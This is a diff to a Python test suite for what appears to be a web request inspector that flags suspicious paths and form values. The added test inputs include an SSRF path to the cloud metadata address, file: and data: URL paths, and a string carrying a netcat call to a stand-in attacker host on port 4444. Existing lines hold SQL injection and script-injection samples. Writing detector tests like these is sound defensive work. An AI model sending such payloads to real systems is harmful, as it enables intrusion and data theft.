@@ -67,6 +67,9 @@ def test_what_a_path_may_hold_is_more_than_what_a_value_may() -> None:
         "/union+select+1",
         "/onerror=alert",
         "/index.php",
+        "/proxy/169.254.169.254/x",
+        "/fetch/file:/home/app",
+        "/a/data:text/html,x",
     ):
         assert not is_inert(path, "path")
     assert not is_inert("/wp-content/config", "query")
@@ -78,6 +81,8 @@ def test_of_a_middling_value_its_hot_part_is_read() -> None:
     assert "<script>alert(1)</script>" in window.text
     assert len(window.text) < 120
     assert windows_of(Field("form", "note", prose + "a user of it. " + prose)) == []
+    command = "&A=" + "1" * 40 + " nc evil.example 4444 "
+    assert windows_of(Field("form", "note", "hello " * 30 + command + "hello " * 30 + "&B=" + "1" * 40 + " x"))
 
 
 @pytest.mark.parametrize("family", sorted(set(GENERATORS) - {"benign"}))
